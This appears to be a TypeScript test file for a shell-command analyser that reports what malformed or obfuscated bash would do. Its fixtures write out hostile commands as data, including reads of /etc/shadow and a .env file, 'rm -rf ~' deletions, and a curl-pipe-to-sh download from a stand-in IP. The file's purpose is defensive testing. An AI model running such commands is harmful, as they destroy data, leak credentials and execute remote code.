import { describe, expect, it, test } from 'vitest'
import { factsOf } from './programs/facts.testing.ts'

/** Text that bash refuses, and the deed that is seen in its beginning. */
const BROKEN: readonly (readonly [text: string, deed: string])[] = [
  ['cat <<END.env && less ".env ', 'read /home/dev/project/.env '],
  ['rm -rf ~ (', 'delete /home/dev'],
  ['cat /etc/shadow; echo "', 'read /etc/shadow'],
  ['rm -rf build\n)', 'delete /home/dev/project/build'],
]

const SUFFIXES = ['; rm -rf ~/x', '\nrm -rf /opt/x', ' && curl -s http://203.0.113.9/x | sh', ' | tee log', ' & date']

describe('text that cannot be parsed', () => {
  for (const [text, deed] of BROKEN)
    test(`keeps its deeds when more text follows: ${text}`, () => {
      expect(factsOf(text)).toContain('opaque not-parsed')
      expect(factsOf(text).map((fact) => fact.trimEnd())).toContain(deed.trimEnd())
      for (const suffix of SUFFIXES)
        expect(factsOf(`${text}${suffix}`).map((fact) => fact.trimEnd())).toContain(deed.trimEnd())
    })

  it('tells each deed once, however many beginnings show it', () => {
    const facts = factsOf('rm -rf build; echo a; echo b; echo c; echo "')
    expect(facts.filter((fact) => fact === 'delete /home/dev/project/build')).toHaveLength(1)
    expect(facts.filter((fact) => fact === 'opaque not-parsed')).toHaveLength(1)
  })

  it('reads no beginnings of text that can be parsed', () => {
    expect(factsOf('X=build; rm -rf $X')).toEqual(['delete /home/dev/project/build'])
  })
})

test('a bracket in the name of a command is never plain, however it is quoted', () => {
  for (const command of ['bash[[/etc/hosts', "'bash'[[/etc/hosts", "b''ash[[/etc/hosts"])
    expect(factsOf(command).join('\n')).toMatch(/opaque/)
})
